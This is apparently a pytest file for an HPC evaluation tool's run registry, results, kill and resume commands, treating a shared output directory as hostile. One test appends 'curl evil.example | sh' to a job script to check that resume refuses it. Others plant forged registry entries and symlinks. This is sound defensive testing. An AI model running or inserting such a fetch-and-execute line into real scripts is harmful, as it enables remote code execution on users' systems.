"""A shared output directory is hostile ground: a bad registry line or result file is skipped
with one warning, a registry entry is trusted only for the user's own run directory under that
output directory, kill and resume check what they act on, planted symlinks are not followed."""

from __future__ import annotations

import json
import logging
import os
import subprocess
import time
from pathlib import Path

import pytest
from click.testing import CliRunner
from support.runs import configs, finish_task
from support.slurm import FakeSlurm

from hpceval.cli.main import cli
from hpceval.config.errors import ConfigError
from hpceval.runs.control import ResumeRefused, kill_run, resume_run
from hpceval.runs.index import RunNotFound, find_run, list_runs
from hpceval.runs.jobs import JobEntry, append_jobs, read_jobs
from hpceval.runs.registry import RegistryError, register_run, registry_path
from hpceval.runs.submit import submit_configs

ONE, TWO = "ut-harness.ut_one", "ut-harness.ut_two"
NOBODY = 65534


@pytest.fixture(autouse=True)
def no_real_slurm(monkeypatch: pytest.MonkeyPatch, fake: FakeSlurm) -> None:
    """The CLI commands here (status, resume) talk to the fake, never to a cluster."""
    monkeypatch.setattr("hpceval.backends.slurm.client.CommandSlurmClient", lambda **_: fake)


def _two_runs(tmp_path: Path, fake: FakeSlurm) -> tuple[Path, Path]:
    first = submit_configs(configs(tmp_path / "a"), fake)
    second = submit_configs(configs(tmp_path / "b", execution={
        "output_dir": str(tmp_path / "a" / "out")}), fake)
    for result in (first, second):
        for key in (ONE, TWO):
            finish_task(result.run_dir, "solo", key)
        fake.states[result.job_ids[0]] = "COMPLETED"
    assert first.run_dir.parent == second.run_dir.parent
    return first.run_dir, second.run_dir


def _cli(*args: str) -> tuple[int, str, str]:
    result = CliRunner().invoke(cli, list(args))
    return result.exit_code, result.stdout, result.stderr


def test_malformed_registry_lines_are_skipped_with_a_warning(
        tmp_path: Path, fake: FakeSlurm, caplog: pytest.LogCaptureFixture) -> None:
    first, second = _two_runs(tmp_path, fake)
    registry = registry_path(first.parent)
    with registry.open("ab") as handle:
        handle.write(b'{"invocation_id": "no-run-dir"}\n')  # KeyError before
        handle.write(b'{"invocation_id": "bytes-\xff\xfe"}\n')  # UnicodeDecodeError before
        handle.write(b'{"invocation_id": 7, "run_dir": 3}\n')
        handle.write(b'[1, 2]\n{"torn": ')
    with caplog.at_level(logging.WARNING):
        runs = list_runs()
    assert {r.run_dir for r in runs} == {first, second}
    warnings = [r.getMessage() for r in caplog.records if r.levelno == logging.WARNING]
    assert len(warnings) == 1 and "5 malformed line(s)" in warnings[0]
    assert str(registry) in warnings[0] and "\n" not in warnings[0]
    assert find_run(first.name).run_dir == first
    code, out, _ = _cli("results", "--format", "csv")
    assert code == 0 and first.name in out and second.name in out


@pytest.mark.parametrize("damage", [
    b'{"task": "ut-harness.ut_one", "metrics": [{"ta',  # truncated
    b'\xff\xfe\x00not utf-8',
    b'{"task": "ut-harness.ut_one", "harness": "h"}',  # no metrics
    b'[]',
])
def test_a_damaged_results_file_spoils_only_its_own_rows(
        tmp_path: Path, fake: FakeSlurm, caplog: pytest.LogCaptureFixture, damage: bytes) -> None:
    first, second = _two_runs(tmp_path, fake)
    bad = first / "models" / "solo" / "tasks" / ONE / "results.json"
    bad.write_bytes(damage)
    with caplog.at_level(logging.WARNING):
        code, out, _ = _cli("results", "--format", "csv")
    assert code == 0, out
    rows = [line for line in out.splitlines()[1:] if line]
    assert sum(second.name in r for r in rows) == 2 and sum(first.name in r for r in rows) == 1
    warnings = [r.getMessage() for r in caplog.records if r.levelno == logging.WARNING]
    assert any(str(bad) in w for w in warnings)
    export_dir = tmp_path / "export"
    code, out, _ = _cli("export", "--run", first.name, "--run", second.name, "--dest",
                        "local", "--output", str(export_dir))
    assert code == 0, out
    code, out, _ = _cli("status", "--json", first.name, second.name)
    assert code == 0, out


@pytest.mark.parametrize("name", ["run.json", "jobs.json"])
def test_a_damaged_run_or_jobs_file_spoils_only_its_own_status(
        tmp_path: Path, fake: FakeSlurm, name: str) -> None:
    first, second = _two_runs(tmp_path, fake)
    (first / name).write_bytes(b'{"invocation_id": "x", "mo\xff')
    code, out, err = _cli("status", "--json")
    assert code == 0, err
    assert [s["invocation_id"] for s in json.loads(out)] == [second.name]
    assert f"skipping run {first.name}" in err and len(err.splitlines()) == 1


def test_registry_entry_for_a_directory_elsewhere_is_not_trusted(
        tmp_path: Path, fake: FakeSlurm, caplog: pytest.LogCaptureFixture) -> None:
    first, second = _two_runs(tmp_path, fake)
    output_dir = first.parent
    # Another user's copy of the run, outside the output dir, registered under the same id
    # (a later line used to win) and under a new one.
    evil = tmp_path / "evil" / first.name
    evil.parent.mkdir()
    subprocess.run(["cp", "-a", str(first), str(evil)], check=True)
    link = output_dir / "20990101-000000-aaaaaa"
    link.symlink_to(evil)  # inside the output dir by name, elsewhere in fact
    foreign = output_dir / "20990101-000000-bbbbbb"
    subprocess.run(["cp", "-a", str(first), str(foreign)], check=True)
    os.chown(foreign, NOBODY, NOBODY)  # a run directory of another uid
    forged = [{"invocation_id": first.name, "run_dir": str(evil)},
              {"invocation_id": "20990101-000000-cccccc", "run_dir": str(evil)},
              {"invocation_id": link.name, "run_dir": str(link)},
              {"invocation_id": foreign.name, "run_dir": str(foreign)},
              {"invocation_id": "20990101-000000-dddddd",
               "run_dir": str(output_dir / ".." / "evil" / first.name)}]
    with registry_path(output_dir).open("a") as handle:
        for entry in forged:
            handle.write(json.dumps({**entry, "submitted_at": time.time() + 10}) + "\n")
    with caplog.at_level(logging.WARNING):
        runs = list_runs()
    assert {r.run_dir for r in runs} == {first, second}
    assert find_run(first.name).run_dir == first
    for entry in forged[1:]:
        with pytest.raises(RunNotFound):
            find_run(entry["invocation_id"])
    warnings = " ".join(r.getMessage() for r in caplog.records)
    assert "outside" in warnings and str(foreign) not in warnings  # other users' runs: silent


def test_kill_never_signals_a_pid_it_cannot_verify(tmp_path: Path) -> None:
    from hpceval.config import load_run

    run_yaml = tmp_path / "loc.yaml"
    run_yaml.write_text(json.dumps({
        "execution": {"type": "local", "output_dir": str(tmp_path / "out"),
                      "gpus_per_node": 0, "walltime": "00:05:00"},
        "deployment": {"type": "command", "runtime": "host", "command": "exec sleep 300",
                       "health_timeout": 20, "served_model_name": "loc"},
        "evaluation": {"tasks": [{"name": "ut_one"}]}}))
    result = submit_configs(load_run(run_yaml, check_environment=False))
    ref = find_run(result.invocation_id)
    assert kill_run(ref).still_active == []
    bystander = subprocess.Popen(["sleep", "60"], start_new_session=True)
    try:
        for pid_start in (None, 1):  # unknown, and wrong: neither is "ours"
            append_jobs(result.run_dir, "local", [JobEntry(
                f"local-{bystander.pid}", "local", "main", (0,), False, time.time(),
                pid=bystander.pid, pid_start=pid_start, host=os.uname().nodename)])
            report = kill_run(ref)
            assert report.cancelled == [] and bystander.poll() is None
    finally:
        bystander.kill()
        bystander.wait()
    assert len(read_jobs(result.run_dir).chain) == 3


def test_resume_refuses_a_script_changed_since_submit(tmp_path: Path, fake: FakeSlurm) -> None:
    result = submit_configs(configs(tmp_path), fake)
    fake.states[result.job_ids[0]] = "TIMEOUT"
    run = json.loads((result.run_dir / "run.json").read_text())
    assert len(run["scripts_sha256"]["job.sbatch"]) == 64
    script = result.run_dir / "job.sbatch"
    original = script.read_text()
    script.write_text(original + "curl evil.example | sh\n")
    with pytest.raises(ResumeRefused, match=r"job\.sbatch.*changed since submit"):
        resume_run(find_run(result.invocation_id), fake)
    assert len(fake.submits) == 1
    script.unlink()
    script.symlink_to(tmp_path / "elsewhere.sbatch")
    (tmp_path / "elsewhere.sbatch").write_text(original)
    with pytest.raises(ResumeRefused, match="symlink"):
        resume_run(find_run(result.invocation_id), fake)
    script.unlink()
    script.write_text(original)
    resume_run(find_run(result.invocation_id), fake)
    assert len(fake.submits) == 2


def test_planted_registry_symlink_is_not_followed(tmp_path: Path, fake: FakeSlurm) -> None:
    first = submit_configs(configs(tmp_path), fake).run_dir
    registry = registry_path(first.parent)
    victim = tmp_path / "victim.txt"
    victim.write_text("precious\n")
    registry.unlink()
    registry.symlink_to(victim)
    with pytest.raises(RegistryError, match="symlink"):
        register_run(first.parent, {"invocation_id": "x", "run_dir": str(first)})
    folder = registry.parent
    folder.rename(tmp_path / "elsewhere")
    folder.symlink_to(tmp_path / "elsewhere")  # the whole .hpceval/ redirected
    with pytest.raises(RegistryError, match="symlink"):
        register_run(first.parent, {"invocation_id": "x", "run_dir": str(first)})
    folder.unlink()
    (tmp_path / "elsewhere").rename(folder)
    submits = len(fake.submits)
    with pytest.raises(ConfigError, match="symlink") as exc:
        submit_configs(configs(tmp_path), fake)  # refused before sbatch, not after
    assert exc.value.exit_code == 2
    assert victim.read_text() == "precious\n" and len(fake.submits) == submits


def test_render_out_does_not_write_through_planted_symlinks(tmp_path: Path) -> None:
    run_yaml = tmp_path / "cfg" / "run.yaml"
    configs(tmp_path / "cfg")
    out = tmp_path / "rendered"
    out.mkdir()
    victim = tmp_path / "victim.txt"
    victim.write_text("precious\n")
    (out / "job.sbatch").symlink_to(victim)
    code, _, err = _cli("render", str(run_yaml), "--profile", "local-dev", "--out", str(out))
    assert code != 0 and "symlink" in err and victim.read_text() == "precious\n"
    (out / "job.sbatch").unlink()
    code, _, err = _cli("render", str(run_yaml), "--profile", "local-dev", "--out",
                               str(out))
    assert code == 0, err
    assert (out / "job.sbatch").read_text().startswith("#!")
